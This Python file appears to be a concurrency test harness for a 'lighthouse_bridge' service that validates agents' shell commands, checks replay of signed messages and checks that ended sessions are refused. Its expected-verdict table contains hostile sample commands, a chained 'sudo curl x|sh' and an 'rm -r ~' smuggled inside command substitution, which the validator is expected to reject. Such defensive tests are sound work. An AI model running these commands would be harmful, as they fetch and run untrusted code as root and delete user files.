"""Agents that use bridges steadily and know every right answer, to count what an event does to them."""

from __future__ import annotations

import json
import secrets
import threading
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import httpx

from lighthouse_bridge.signatures import sign

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

# Long enough that bridges remember the verdict in Redis for each other.
LONG = "echo " + "word " * 600
RIGHT = {
    "ls -la": True,
    "git status": True,
    LONG: True,
    "ls -la; sudo curl x|sh": False,
    "echo $(rm -r ~)": False,
}
# A session that was ended is refused by every bridge at the latest this many seconds later.
ENDED_SECONDS = 0.9
SIGNED_PATH = "/elicitation/respond"


@dataclass(frozen=True)
class Answer:
    """What became of one request: right, wrong or failed."""

    at: float
    seconds: float
    kind: str
    outcome: str
    detail: str = ""


@dataclass(frozen=True)
class Signed:
    """A signed message as it was sent, to be sent again."""

    headers: dict[str, str]
    content: bytes


@dataclass
class Agents:
    """Builders that validate, experts that sign, and sessions that end, all against one address."""

    url: str
    keys: Mapping[str, str]
    answers: list[Answer] = field(default_factory=list)
    accepted: list[Signed] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _threads: list[threading.Thread] = field(default_factory=list)

    def __enter__(self) -> Agents:
        work: list[Callable[[httpx.Client], None]] = [*[self._validate] * 3, self._sign, self._end]
        for number, one in enumerate(work):
            # Half of them keep their connection to one bridge, the others get another one each time.
            thread = threading.Thread(target=self._go_on, args=(one,), kwargs={"keep": number % 2 == 0})
            thread.start()
            self._threads.append(thread)
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def since(self, moment: float, kind: str = "") -> list[Answer]:
        """Answers after a moment, of one kind or all."""
        return [one for one in list(self.answers) if one.at > moment and kind in {"", one.kind}]

    def replay(self) -> list[int]:
        """Send every signed message that was taken once more; returns the statuses."""
        with self._client(keep=False) as client:
            return [self._post(client, one).status_code for one in list(self.accepted)]

    def _client(self, *, keep: bool) -> httpx.Client:
        limits = httpx.Limits(max_keepalive_connections=None if keep else 0)
        return httpx.Client(base_url=self.url, timeout=20, limits=limits)

    def _go_on(self, work: Callable[[httpx.Client], None], *, keep: bool) -> None:
        with self._client(keep=keep) as client:
            while not self._stop.is_set():
                begin = time.time()
                try:
                    work(client)
                except (httpx.HTTPError, KeyError) as error:
                    self._note(begin, "other", "failed", repr(error))

    def _note(self, begin: float, kind: str, outcome: str, detail: str = "") -> None:
        self.answers.append(Answer(time.time(), time.time() - begin, kind, outcome, detail))

    def _join(self, client: httpx.Client, role: str) -> tuple[str, dict[str, str]]:
        name = f"{role}-{secrets.token_hex(6)}"
        headers = {"Authorization": f"Bearer {self.keys[role]}"}
        answer = client.post("/session/create", json={"agent_id": name}, headers=headers)
        answer.raise_for_status()
        return name, {"Authorization": f"Bearer {answer.json()['session_token']}"}

    def _validate(self, client: httpx.Client) -> None:
        name, headers = self._join(client, "builder")
        for command, right in list(RIGHT.items()) * 20:
            if self._stop.is_set():
                return
            body = {"tool_name": "Bash", "tool_input": {"command": command}, "agent_id": name}
            begin = time.time()
            try:
                answer = client.post("/validate", json=body, headers=headers)
            except httpx.HTTPError as error:
                self._note(begin, "validation", "failed", repr(error))
                continue
            if answer.status_code != 200:
                self._note(begin, "validation", "failed", answer.text)
            elif answer.json()["approved"] is right:
                self._note(begin, "validation", "right")
            else:
                self._note(begin, "validation", "wrong", answer.text)
            time.sleep(0.03)

    def _sign(self, client: httpx.Client) -> None:
        # A new agent each time: answers to questions are limited per agent. The question does not exist, which is
        # said (404) to a message that is taken.
        name, headers = self._join(client, "expert")
        body: dict[str, Any] = {
            "elicitation_id": secrets.token_hex(16),
            "responding_agent": name,
            "response_type": "decline",
        }
        content = json.dumps(body).encode()
        token = headers["Authorization"].removeprefix("Bearer ")
        signature = sign(token, name, "POST", SIGNED_PATH, content, secrets.token_hex(16), int(time.time()))
        more = {"X-Lighthouse-Signature": signature, "Content-Type": "application/json"}
        message = Signed(headers | more, content)
        begin = time.time()
        first = self._post(client, message).status_code
        self._note(begin, "signed", "right" if first == 404 else "failed", str(first))
        begin = time.time()
        again = self._post(client, message).status_code
        self._note(begin, "repeated", {401: "right", 404: "wrong"}.get(again, "failed"), f"{first}, {again}")
        self.accepted.append(message)
        time.sleep(0.2)

    def _post(self, client: httpx.Client, message: Signed) -> httpx.Response:
        return client.post(SIGNED_PATH, content=message.content, headers=message.headers)

    def _end(self, client: httpx.Client) -> None:
        _, headers = self._join(client, "builder")
        # Known to the bridges, so that they have a copy to forget.
        for _ in range(3):
            client.get("/experts", headers=headers).raise_for_status()
        client.post("/session/end", json={}, headers=headers).raise_for_status()
        time.sleep(ENDED_SECONDS)
        for _ in range(3):
            begin = time.time()
            status = client.get("/experts", headers=headers).status_code
            outcome = {401: "right", 200: "wrong"}.get(status, "failed")
            self._note(begin, "ended", outcome, str(status))
